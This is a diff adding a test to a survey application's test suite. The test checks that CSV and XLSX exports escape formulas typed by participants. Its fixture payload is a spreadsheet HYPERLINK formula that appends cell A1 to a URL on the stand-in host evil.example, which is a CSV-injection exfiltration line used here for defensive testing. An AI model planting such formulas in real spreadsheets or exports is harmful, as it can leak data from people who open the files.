@@ -319,3 +319,16 @@ def test_results_split_by_verified_district_hide_small_districts(client, compone
     assert "Results of the group “Gare” (11 answers)." in html and "Average: 5.00." in html
     html = client.get(url + f"&group={pres.pk}").content.decode()
     assert "fewer than 10 answers: its results are not shown" in html
+
+
+def test_exports_show_formulas_typed_by_people_as_text(client, component, survey, q, space_admin, participant):
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    services.respond(actor=participant, component=component, values={
+        q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: payload})
+    client.force_login(space_admin)
+    text = b"".join(client.get(admin_url(component, "export", export_format="csv")).streaming_content)
+    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
+    assert "'" + payload in cells and payload not in cells
+    workbook = load_workbook(io.BytesIO(b"".join(client.get(admin_url(component, "export", export_format="xlsx")))))
+    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
+    assert "'" + payload in values and payload not in values
